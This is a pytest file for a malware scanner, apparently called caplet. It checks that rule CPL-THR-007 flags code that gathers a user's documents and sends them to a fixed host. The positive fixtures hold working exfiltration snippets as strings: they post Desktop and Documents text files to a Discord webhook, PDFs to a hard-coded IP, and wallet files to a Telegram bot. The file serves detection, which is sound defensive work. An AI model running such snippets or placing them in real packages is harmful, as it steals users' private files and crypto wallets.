"""The user's documents gathered and sent out (caplet._scan._sink_documents)."""

from __future__ import annotations

import textwrap

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source


def danger(source: str) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


@pytest.mark.parametrize(
    "source",
    [
        # the folders in a loop, files globbed by extension, uploaded to a webhook
        """
        import glob, os, requests
        home = os.path.expanduser("~")
        for folder in ("Desktop", "Documents", "Downloads"):
            for path in glob.glob(os.path.join(home, folder, "*.txt")):
                with open(path, "rb") as f:
                    requests.post("https://discord.com/api/webhooks/1/x", files={"file": f})
        """,
        # a recursive glob of PDFs posted to a fixed address over http.client
        """
        import glob, os
        import http.client
        home = os.path.expanduser("~")
        for path in glob.glob(home + "/Documents/**/*.pdf", recursive=True):
            with open(path, "rb") as f:
                body = f.read()
            conn = http.client.HTTPConnection("198.51.100.9", 8000)
            conn.request("POST", "/u/" + os.path.basename(path), body)
        """,
        # wallet files found under the desktop, sent to a Telegram bot
        """
        import glob, os, requests
        desk = os.path.join(os.environ["USERPROFILE"], "Desktop")
        for name in glob.glob(os.path.join(desk, "**", "*wallet*"), recursive=True):
            doc = open(name, "rb")
            requests.post("https://api.telegram.org/botT/sendDocument",
                          data={"chat_id": "1"}, files={"document": doc})
        """,
    ],
)
def test_the_users_documents_sent_to_a_fixed_host_are_stolen(source: str) -> None:
    assert "CPL-THR-007" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # a downloader saving into the user's Downloads folder
        """
        import os, requests
        target = os.path.join(os.path.expanduser("~"), "Downloads", "report.pdf")
        with open(target, "wb") as f:
            f.write(requests.get("https://files.example/report.pdf").content)
        """,
        # a package's own text files uploaded to its service
        """
        import glob, os, requests
        here = os.path.dirname(__file__)
        for path in glob.glob(os.path.join(here, "data", "*.txt")):
            requests.post("https://api.example/upload", files={"f": open(path, "rb")})
        """,
        # a file the user picked, uploaded to a service URL the caller gives
        """
        import requests
        def upload(url, path):
            with open(path, "rb") as f:
                return requests.post(url, files={"file": f})
        """,
    ],
)
def test_downloads_saved_package_files_or_a_callers_upload_are_not(source: str) -> None:
    assert "CPL-THR-007" not in danger(source)
